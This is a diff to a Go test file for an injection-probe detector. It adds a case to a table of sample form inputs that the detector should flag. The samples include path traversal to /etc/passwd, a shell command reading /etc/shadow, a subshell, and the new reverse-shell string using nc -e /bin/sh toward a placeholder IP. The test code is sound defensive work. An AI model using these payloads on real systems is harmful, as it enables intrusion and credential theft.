@@ -19,6 +19,7 @@ func TestInjectionProbe(t *testing.T) {
 		{name: "path traversal", sub: setMessage("../../../../etc/passwd"), want: CodeInjectionProbe},
 		{name: "shell", sub: setCompany("; cat /etc/shadow"), want: CodeInjectionProbe},
 		{name: "subshell", sub: setMessage("$(whoami)"), want: CodeInjectionProbe},
+		{name: "shell with a tab", sub: setCompany("x |nc\t-e /bin/sh 203.0.113.9 4444"), want: CodeInjectionProbe},
 		// Questions about security, and ordinary punctuation, are not probes.
 		{name: "security question", sub: setMessage("Do you protect against SQL injection and XSS? Our auditors will ask about OWASP top 10."), not: not},
 		{name: "quote and", sub: setMessage("We liked the 'premium' and others like it; which plan fits 40 users?"), not: not},
